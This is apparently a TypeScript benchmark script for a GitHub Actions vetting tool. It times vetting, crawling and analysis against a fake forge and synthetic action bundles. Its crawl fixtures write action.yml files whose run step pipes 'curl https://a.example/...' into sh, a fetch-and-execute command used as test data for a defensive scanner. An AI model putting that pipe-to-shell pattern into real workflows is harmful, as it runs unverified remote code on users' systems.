import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { cpus, platform, release, tmpdir, totalmem } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { parse } from 'acorn';
import { analyze, prepareAnalyzers } from '../src/analyze.js';
import type { Report } from '../src/report/report.js';
import { createSources, memoryCache } from '../src/sources/index.js';
import { memoryTree, type SourceTree } from '../src/sources/tree.js';
import { vet } from '../src/vet.js';
import { start } from '../test/forge/child.js';
import { startForge } from '../test/forge/forge.js';
import { createRepository } from '../test/forge/repository.js';

/** One measured number; `unit` says what of. */
interface Figure {
  readonly name: string;
  readonly value: number;
  readonly unit: 's' | 'MB' | 'ratio' | 'exponent' | '/s';
}

interface Result {
  readonly machine: string;
  readonly figures: readonly Figure[];
}

const CLI = join(import.meta.dirname, '../bin/pindrift.js');
const SHA = '0123456789abcdef0123456789abcdef01234567';
/** Seconds. Programs that are parsed faster say nothing: what is measured is the rest of the action. */
const LEAST_PARSE = 0.02;

const { values } = parseArgs({
  options: {
    /** A file of refs, one a line: what `vet` is measured over. */
    refs: { type: 'string' },
    mirror: { type: 'string', default: '' },
    short: { type: 'boolean', default: false },
    json: { type: 'string' },
    compare: { type: 'string', multiple: true, default: [] },
  },
});

if (values.compare.length === 2) {
  const [before, after] = values.compare.map((file) => JSON.parse(readFileSync(file, 'utf8')) as Result);
  for (const { name, value } of before!.figures) {
    const now = after!.figures.find((figure) => figure.name === name);
    if (now) process.stdout.write(`${name.padEnd(44)} ${(now.value / value).toFixed(2)}\n`);
  }
} else {
  const figures = [
    ...(await growth(values.short ? 4 : 8)),
    ...(await crawling(values.short ? 32 : 96)),
    ...(values.refs ? await labels(values.refs) : []),
    ...(values.refs ? await bundles(values.refs) : []),
  ];
  const machine = `${cpus()[0]?.model ?? 'unknown'} × ${cpus().length}, ${Math.round(totalmem() / 2 ** 30)} GB, ${platform()} ${release()}, Node ${process.version}`;
  process.stdout.write(`${machine}\n\n| what | value |\n| --- | --- |\n`);
  for (const { name, value, unit } of figures)
    process.stdout.write(`| ${name} | ${value.toFixed(2)} ${unit} |\n`);
  if (values.json) writeFileSync(values.json, JSON.stringify({ machine, figures } satisfies Result, null, 2));
}

/** How time grows with the size of a bundle and with the number of actions. */
async function growth(most: number): Promise<Figure[]> {
  const functions = (count: number) =>
    Array.from(
      { length: count },
      (_, at) => `function f${at}(x){const y=x+${at};return y?y*2:[y,{a:y}]}`,
    ).join('\n');
  const bundle = (times: number) =>
    `${functions(4_000 * times)}\nfor(let i=0;i<50;i++)f1(i);fetch('https://a.example/x')`;
  const time = async (actions: number, times: number): Promise<number> => {
    const text = bundle(times);
    const started = performance.now();
    await vet(
      Array.from({ length: actions }, (_, at) => ({ uses: `o/r${at}@${SHA}` })),
      {
        sources: {
          resolve: async () => SHA,
          tree: async (_owner, repo) =>
            memoryTree(repo, {
              'action.yml': 'name: x\nruns:\n  using: node20\n  main: m.js\n',
              'm.js': text,
            }),
        },
      },
    );
    return (performance.now() - started) / 1000;
  };
  await time(4, 1);
  const steps = [1, 2, 4, 8].filter((step) => step <= most);
  const bySize: number[] = [];
  for (const step of steps) bySize.push(await time(4, step));
  const byCount: number[] = [];
  for (const step of steps) byCount.push(await time(8 * step, 1));
  return [
    ...steps.map((step, at): Figure => ({ name: `4 bundles, ${step}×`, value: bySize[at]!, unit: 's' })),
    { name: 'growth with bundle size', value: exponent(steps, bySize), unit: 'exponent' },
    ...steps.map((step, at): Figure => ({ name: `${8 * step} actions`, value: byCount[at]!, unit: 's' })),
    { name: 'growth with number of actions', value: exponent(steps, byCount), unit: 'exponent' },
  ];
}

/** The exponent of the power that fits best: the slope of log over log. */
function exponent(sizes: readonly number[], times: readonly number[]): number {
  const x = sizes.map(Math.log);
  const y = times.map(Math.log);
  const mean = (all: readonly number[]) => all.reduce((sum, one) => sum + one, 0) / all.length;
  const [mx, my] = [mean(x), mean(y)];
  const over = x.reduce((sum, one, at) => sum + (one - mx) * (y[at]! - my), 0);
  return over / x.reduce((sum, one) => sum + (one - mx) ** 2, 0);
}

/** Actions a second that a crawl of a forge gets through, whose every answer takes 50 ms to begin. */
async function crawling(count: number): Promise<Figure[]> {
  const forge = await startForge(50);
  const folder = mkdtempSync(join(tmpdir(), 'pindrift-bench-'));
  const refs = Array.from({ length: count }, (_, at) => {
    const repository = createRepository();
    forge.repositories.set(`o/r${at}`, repository);
    const sha = repository.commit({
      'action.yml': `name: x\nruns:\n  using: composite\n  steps:\n    - run: curl https://a.example/${at} | sh\n      shell: bash\n`,
    });
    return `o/r${at}@${sha}`;
  });
  writeFileSync(join(folder, 'list'), refs.join('\n'));
  const figures: Figure[] = [];
  for (const connections of [1, 4, 16]) {
    const started = performance.now();
    const { status, output } = await start(
      CLI,
      [
        'crawl',
        '--list',
        join(folder, 'list'),
        '--output',
        join(folder, `${connections}.jsonl`),
        '--api-url',
        forge.apiUrl,
        '--connections',
        String(connections),
      ],
      { PINDRIFT_CACHE_DIR: join(folder, `cache-${connections}`) },
    ).done;
    if (status !== 0) throw new Error(`crawl: ${output}`);
    const seconds = (performance.now() - started) / 1000;
    figures.push({
      name: `crawl, 50 ms delay, ${connections} connection${connections === 1 ? '' : 's'}`,
      value: count / seconds,
      unit: '/s',
    });
  }
  await forge.close();
  rmSync(folder, { recursive: true });
  return figures;
}

/** Cold and warm `vet` of the refs with one worker and with two, over a bare parse of the JavaScript that it read. */
async function labels(file: string): Promise<Figure[]> {
  const refs = readFileSync(file, 'utf8').split(/\s+/).filter(Boolean);
  const cache = mkdtempSync(join(tmpdir(), 'pindrift-bench-'));
  const run = (workers: number) => {
    const started = performance.now();
    const { stdout, stderr } = spawnSync(
      process.execPath,
      [
        '--import',
        `data:text/javascript,process.on('exit',()=>process.stderr.write('peak '+process.resourceUsage().maxRSS))`,
        CLI,
        'vet',
        ...refs,
        '--mirror',
        values.mirror,
        '--offline',
        '--format',
        'json',
        '--workers',
        String(workers),
      ],
      { encoding: 'utf8', maxBuffer: 2 ** 30, env: { ...process.env, PINDRIFT_CACHE_DIR: cache } },
    );
    const peak = Number(/peak (\d+)\s*$/.exec(stderr)?.[1] ?? 0) / 1024;
    return { seconds: (performance.now() - started) / 1000, peak, stdout };
  };
  const one = run(1);
  rmSync(cache, { recursive: true });
  const two = run(2);
  const warm = run(2);
  rmSync(cache, { recursive: true });
  if (one.stdout !== two.stdout || two.stdout !== warm.stdout)
    throw new Error('the report depends on the number of workers or on the cache');
  const bare = await bareParse(JSON.parse(one.stdout) as Report);
  return [
    { name: 'vet, cold, one worker', value: one.seconds, unit: 's' },
    { name: 'vet, cold, two workers', value: two.seconds, unit: 's' },
    { name: 'vet, warm', value: warm.seconds, unit: 's' },
    { name: 'bare acorn parse of the JavaScript read', value: bare, unit: 's' },
    { name: 'cold over bare parse', value: one.seconds / bare, unit: 'ratio' },
    { name: 'warm over cold', value: warm.seconds / two.seconds, unit: 'ratio' },
    { name: 'one worker over two', value: one.seconds / two.seconds, unit: 'ratio' },
    { name: 'peak memory, two workers', value: two.peak, unit: 'MB' },
  ];
}

async function bareParse(report: Report): Promise<number> {
  const sources = createSources({ mirrors: [values.mirror], offline: true, cache: memoryCache() });
  let seconds = 0;
  for (const { action, sha, coverage } of report.actions) {
    const [owner, repo] = action.split('/');
    seconds += parseAll(await sources.tree(owner!, repo!, sha), coverage.analysed);
  }
  return seconds;
}

/** Seconds that acorn takes for the JavaScript among the files. */
function parseAll(tree: SourceTree, files: readonly string[]): number {
  const texts = files.filter((path) => /\.[cm]?js$/.test(path)).map((path) => tree.text(path) ?? '');
  const started = performance.now();
  for (const text of texts) {
    try {
      parse(text, {
        ecmaVersion: 'latest',
        sourceType: 'module',
        allowHashBang: true,
        allowReturnOutsideFunction: true,
      });
    } catch {
      // A script that is no module: its parse was timed as far as it went.
    }
  }
  return (performance.now() - started) / 1000;
}

/** The analysis of each action alone over a bare parse of the JavaScript that it read, in this process: the middle one of three. */
async function bundles(file: string): Promise<Figure[]> {
  const sources = createSources({ mirrors: [values.mirror], offline: true, cache: memoryCache() });
  await prepareAnalyzers();
  const measure = async (ref: string): Promise<{ action: string; analysis: number; bare: number }> => {
    const [action = '', sha = ''] = ref.split('@');
    const [owner = '', repo = '', ...folder] = action.split('/');
    const tree = await sources.tree(owner, repo, sha);
    const started = performance.now();
    const { analysed } = analyze(tree, folder.join('/'));
    const analysis = (performance.now() - started) / 1000;
    return { action, analysis, bare: parseAll(tree, analysed) };
  };
  const refs = readFileSync(file, 'utf8').split(/\s+/).filter(Boolean);
  // What the first ones cost for being the first is not theirs.
  for (const ref of refs.slice(0, 3)) await measure(ref);
  const programs: { readonly action: string; readonly ratio: number }[] = [];
  for (const ref of refs) {
    const measured = await measure(ref);
    if (measured.bare < LEAST_PARSE) continue;
    const all = [measured, await measure(ref), await measure(ref)];
    const [, ratio = 0] = all.map(({ analysis, bare }) => analysis / bare).sort((one, other) => one - other);
    programs.push({ action: measured.action, ratio });
  }
  programs.sort((one, other) => one.ratio - other.ratio);
  return [
    ...programs.map(
      ({ action, ratio }): Figure => ({
        name: `analysis over bare parse, ${action}`,
        value: ratio,
        unit: 'ratio',
      }),
    ),
    {
      name: 'analysis over bare parse, median',
      value: programs[programs.length >> 1]?.ratio ?? 0,
      unit: 'ratio',
    },
    { name: 'analysis over bare parse, largest', value: programs.at(-1)?.ratio ?? 0, unit: 'ratio' },
  ];
}
